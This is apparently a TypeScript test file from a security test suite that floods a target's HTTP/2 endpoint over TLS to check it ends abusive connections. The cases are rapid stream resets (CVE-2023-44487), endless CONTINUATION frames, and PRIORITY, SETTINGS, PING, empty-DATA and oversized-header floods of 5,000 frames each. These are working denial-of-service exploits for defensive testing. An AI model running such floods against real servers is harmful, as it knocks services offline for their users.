import {
  FLAG,
  FRAME,
  fieldBlock,
  frame,
  headersFrame,
  PREFACE,
  requestFields,
  resetFrame,
} from '../../tools/testing/http2-frames.ts'
import { openCarelessGateway } from '../controls/careless-gateway.ts'
import type { Attack, Case } from '../model.ts'
import { dial, presented } from '../support/tls-client.ts'

const CANCEL = 8
/** More than any client sends of anything that leads nowhere. */
const FRAMES = 5_000
const PATIENCE_MS = 5_000

/** RFC 9113 §10.5: what is cheap to send and dear to take. */
export const floods: Attack = {
  name: 'floods of HTTP/2',
  goal: 'keeps the door at work with frames that cost the sender nothing',
  concurrent: true,
  anywhere: true,
  cases: [
    // CVE-2023-44487
    way('streams that are reset as they open', (id) => [
      headersFrame(id, requestFields('/endless')),
      resetFrame(id, CANCEL),
    ]),
    // CVE-2024-27983
    way('CONTINUATION without end', (id, first) => [
      ...(id === 1 ? [headersFrame(1, first, FLAG.endStream)] : []),
      frame(FRAME.continuation, 0, 1, fieldBlock([['x-more', 'y']])),
    ]),
    way('SETTINGS', () => [frame(FRAME.settings, 0, 0)]),
    way('PING', () => [frame(FRAME.ping, 0, 0, Buffer.alloc(8))]),
    // CVE-2019-9513. Three a turn: nghttp2, which looks at none of them, ends it at 10,000.
    way('PRIORITY', (id) => Array.from({ length: 3 }, () => frame(FRAME.priority, 0, id, Buffer.of(0, 0, 0, 0, 15)))),
    way('empty DATA', (id, first) => [
      ...(id === 1 ? [headersFrame(1, [[':method', 'POST'], ...first.slice(1)], FLAG.endHeaders)] : []),
      frame(FRAME.data, 0, 1),
    ]),
    way('fields without end', (id) => [
      headersFrame(id, [
        ...requestFields('/open'),
        ...Array.from({ length: 100 }, (): [string, string] => ['x', 'y'.repeat(500)]),
      ]),
    ]),
  ],
}

/** @param frames Those of one turn, by the number of its stream, and the pseudo-fields of a request. */
function way(name: string, frames: (id: number, first: [string, string][]) => readonly Buffer[]): Case {
  return {
    name,
    control: openCarelessGateway,
    async run(target) {
      const { attackers } = target
      const identity = presented(attackers.alice, attackers.issuing)
      const { socket, over, reference } = await dial(target, { ...identity, ALPNProtocols: ['h2'] })
      const closed = new Promise<boolean>((resolve) => socket.once('close', () => resolve(true)))
      socket.write(PREFACE)
      const sent = send(socket, (id) => frames(id, requestFields('/open')), closed)
      const ended = await Promise.race([closed, sent.then(() => within(closed))])
      await over(0)
      const given = reference()
      return { peer: ended ? 'ended' : 'open', won: !ended, ...(given && { reference: given }) }
    },
  }
}

/** At the pace of the other side. */
async function send(
  socket: Awaited<ReturnType<typeof dial>>['socket'],
  frames: (id: number) => readonly Buffer[],
  closed: Promise<boolean>,
): Promise<void> {
  for (let i = 0; i < FRAMES && !socket.destroyed; i++) {
    if (socket.write(Buffer.concat(frames(2 * i + 1)))) continue
    await Promise.race([closed, new Promise((resolve) => socket.once('drain', resolve))])
  }
}

async function within(closed: Promise<boolean>): Promise<boolean> {
  const { promise, resolve } = Promise.withResolvers<boolean>()
  const timer = setTimeout(() => resolve(false), PATIENCE_MS)
  const answer = await Promise.race([closed, promise])
  clearTimeout(timer)
  return answer
}
